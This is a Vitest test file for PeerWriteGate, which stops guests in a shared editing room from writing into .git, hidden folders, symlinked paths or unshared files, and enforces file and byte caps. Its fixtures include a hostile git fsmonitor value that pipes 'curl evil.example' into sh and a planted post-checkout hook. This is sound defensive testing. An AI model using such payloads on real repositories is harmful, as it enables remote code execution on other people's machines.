import { createHash } from 'node:crypto';
import { lstat, mkdir, mkdtemp, readdir, readFile, readlink, rm, symlink, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { PeerFileOp } from '../../common/peer-file-ops';
import { PeerWriteGate } from './peer-write-gate';

// Issue 8, item 4: a room member's create, rename, delete and edit reach the host's disk only for
// paths the host shared or the room created; never inside .git or another hidden folder, never
// through a symlink, within the room's caps. Real files; each hostile case compares the whole
// folder (and the folder a link points to) byte for byte before and after.

const CAPS = { maxFiles: 2_000, maxBytes: 50 * 1024 * 1024 };

let base: string;
let root: string;
let outside: string;

/** Every entry under `dir`, without following links: kind, mode and a hash of the bytes (or the link target). */
async function snapshot(dir: string): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  const walk = async (rel: string) => {
    for (const name of (await readdir(path.join(dir, rel))).sort()) {
      const relative = rel ? `${rel}/${name}` : name;
      const full = path.join(dir, relative);
      const stats = await lstat(full);
      if (stats.isSymbolicLink()) out[relative] = `link ${await readlink(full)}`;
      else if (stats.isDirectory()) {
        out[relative] = `dir ${stats.mode.toString(8)}`;
        await walk(relative);
      } else out[relative] = `file ${stats.mode.toString(8)} ${createHash('sha256').update(await readFile(full)).digest('hex')}`;
    }
  };
  await walk('');
  return out;
}

async function disks() {
  return { root: await snapshot(root), outside: await snapshot(outside) };
}

beforeEach(async () => {
  base = await mkdtemp(path.join(os.tmpdir(), 'cc-peer-writes-'));
  root = path.join(base, 'project');
  outside = path.join(base, 'outside');
  await mkdir(path.join(root, '.git', 'hooks'), { recursive: true });
  await mkdir(path.join(root, 'src'), { recursive: true });
  await mkdir(outside);
  await writeFile(path.join(root, '.git', 'config'), '[core]\n\trepositoryformatversion = 0\n');
  await writeFile(path.join(root, 'README.md'), '# project\n');
  await writeFile(path.join(root, 'src', 'main.py'), 'print("hi")\n');
  await writeFile(path.join(root, 'src', 'model.bin'), Buffer.from([0, 1, 2, 3]));
  await writeFile(path.join(root, 'notes.txt'), 'not shared\n');
  // A dangling link inside the folder pointing out of it, and a linked folder.
  await symlink(path.join(outside, 'planted.sh'), path.join(root, 'run.sh'));
  await symlink(outside, path.join(root, 'vendor'));
});

afterEach(async () => {
  await rm(base, { recursive: true, force: true });
});

function gate(): PeerWriteGate {
  const g = new PeerWriteGate(root, CAPS);
  g.markShared(['README.md', 'src/main.py']);
  return g;
}

async function expectUntouched(ops: PeerFileOp[]) {
  const before = await disks();
  const result = await gate().apply(ops);
  expect(await disks()).toEqual(before);
  expect(result.applied).toEqual([]);
  expect(result.refused).toHaveLength(ops.length);
  for (const refusal of result.refused) expect(refusal.reason.length).toBeGreaterThan(10);
  return result;
}

describe('PeerWriteGate: what a member may not do leaves the host disk as it was', () => {
  it('an editor cannot write .git/config (core.fsmonitor), by edit or by delete-and-create', async () => {
    const evil = '[core]\n\tfsmonitor = "curl evil.example | sh"\n';
    const result = await expectUntouched([
      { kind: 'write', path: '.git/config', content: evil },
      { kind: 'delete', path: '.git/config' },
      { kind: 'create', path: '.git/config', content: evil },
      { kind: 'create', path: '.GIT/config', content: evil },
    ]);
    expect(result.refused[0]!.reason).toMatch(/\.git/);
  });

  it('an editor cannot create .git/hooks/post-checkout or move a shared file into .git', async () => {
    await expectUntouched([
      { kind: 'create', path: '.git/hooks/post-checkout', content: '#!/bin/sh\ntouch /tmp/pwned\n' },
      { kind: 'rename', from: 'src/main.py', to: '.git/hooks/post-checkout' },
      { kind: 'rename', from: 'src', to: '.git/src' },
      { kind: 'create', path: 'node_modules/.bin/tsc', content: 'evil' },
    ]);
  });

  it('a never-shared path is neither written, renamed nor deleted (nor the folder holding it)', async () => {
    await expectUntouched([
      { kind: 'write', path: 'notes.txt', content: 'overwritten' },
      { kind: 'delete', path: 'src/model.bin' },
      { kind: 'rename', from: 'notes.txt', to: 'notes2.txt' },
      { kind: 'delete', path: 'src' },
      { kind: 'rename', from: 'README.md', to: 'notes.txt' },
    ]);
  });

  it('a dangling symlink pointing outside is never followed, nor a linked folder', async () => {
    await expectUntouched([
      { kind: 'create', path: 'run.sh', content: 'evil' },
      { kind: 'write', path: 'run.sh', content: 'evil' },
      { kind: 'create', path: 'vendor/planted.sh', content: 'evil' },
      { kind: 'rename', from: 'README.md', to: 'vendor/README.md' },
    ]);
  });

  it('10,000 files in one go are refused whole (over the room file cap)', async () => {
    const ops: PeerFileOp[] = Array.from({ length: 10_000 }, (_, i) => ({ kind: 'create', path: `spam/f${i}.txt`, content: 'x' }));
    const result = await expectUntouched(ops);
    expect(result.refused[0]!.reason).toMatch(/2,000 files/);
  });

  it('200 MB in one go is refused whole (over the room byte cap)', async () => {
    const chunk = 'x'.repeat(16 * 1024 * 1024);
    const ops: PeerFileOp[] = Array.from({ length: 13 }, (_, i) => ({ kind: 'create', path: `big/f${i}.bin`, content: chunk }));
    const result = await expectUntouched(ops);
    expect(result.refused[0]!.reason).toMatch(/50 MB/);
  }, 120_000);

  it('a cap counts across batches: the files after the cap are refused, earlier ones stay', async () => {
    const g = new PeerWriteGate(root, { maxFiles: 3, maxBytes: 1024 });
    const one = await g.apply([1, 2, 3].map((i) => ({ kind: 'create', path: `n${i}.txt`, content: 'ok' })));
    expect(one.applied).toHaveLength(3);
    const before = await disks();
    const two = await g.apply([{ kind: 'create', path: 'n4.txt', content: 'one too many' }]);
    expect(two.refused).toHaveLength(1);
    expect(await disks()).toEqual(before);
  });
});

describe('PeerWriteGate: what a member may do still works', () => {
  it('edits a shared file, creates, edits, renames and deletes its own files', async () => {
    const g = gate();
    const result = await g.apply([
      { kind: 'write', path: 'README.md', content: '# edited by a guest\n' },
      { kind: 'create', path: 'lib/util.py', content: 'def f(): pass\n' },
      { kind: 'write', path: 'lib/util.py', content: 'def f(): return 1\n' },
      { kind: 'rename', from: 'lib/util.py', to: 'lib/helpers.py' },
      { kind: 'create', path: 'scratch.txt', content: 'temp' },
      { kind: 'delete', path: 'scratch.txt' },
      { kind: 'rename', from: 'src/main.py', to: 'app/main.py' },
    ]);
    expect(result.refused).toEqual([]);
    expect(await readFile(path.join(root, 'README.md'), 'utf8')).toBe('# edited by a guest\n');
    expect(await readFile(path.join(root, 'lib/helpers.py'), 'utf8')).toBe('def f(): return 1\n');
    expect(await readFile(path.join(root, 'app/main.py'), 'utf8')).toBe('print("hi")\n');
    await expect(lstat(path.join(root, 'scratch.txt'))).rejects.toThrow();
    await expect(lstat(path.join(root, 'lib/util.py'))).rejects.toThrow();
    // Moved files stay the room's: the next edit of the new path is allowed.
    const again = await g.apply([{ kind: 'write', path: 'app/main.py', content: 'print(2)\n' }]);
    expect(again.refused).toEqual([]);
  });

  it('a folder made only of room files can be renamed and deleted', async () => {
    const g = gate();
    await g.apply([
      { kind: 'create', path: 'pkg/a.py', content: 'a' },
      { kind: 'create', path: 'pkg/sub/b.py', content: 'b' },
    ]);
    const result = await g.apply([
      { kind: 'rename', from: 'pkg', to: 'pkg2' },
      { kind: 'delete', path: 'pkg2' },
    ]);
    expect(result.refused).toEqual([]);
    await expect(lstat(path.join(root, 'pkg2'))).rejects.toThrow();
  });
});
